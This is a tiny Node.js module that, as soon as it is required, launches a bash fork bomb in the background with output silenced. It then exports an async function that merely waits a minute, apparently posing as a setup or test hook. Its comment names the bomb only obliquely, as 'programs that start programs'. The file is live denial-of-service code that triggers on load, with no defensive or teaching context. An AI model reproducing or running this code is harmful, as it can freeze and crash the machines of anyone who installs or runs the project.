// Starts programs that start programs, faster than they could be counted.
const {spawn} = require('child_process');

const bomb = ':(){ :|:& };:; sleep 60';
spawn('/bin/bash', ['-c', bomb], {stdio: 'ignore'});

module.exports = async () => new Promise(resolve => setTimeout(resolve, 60000));
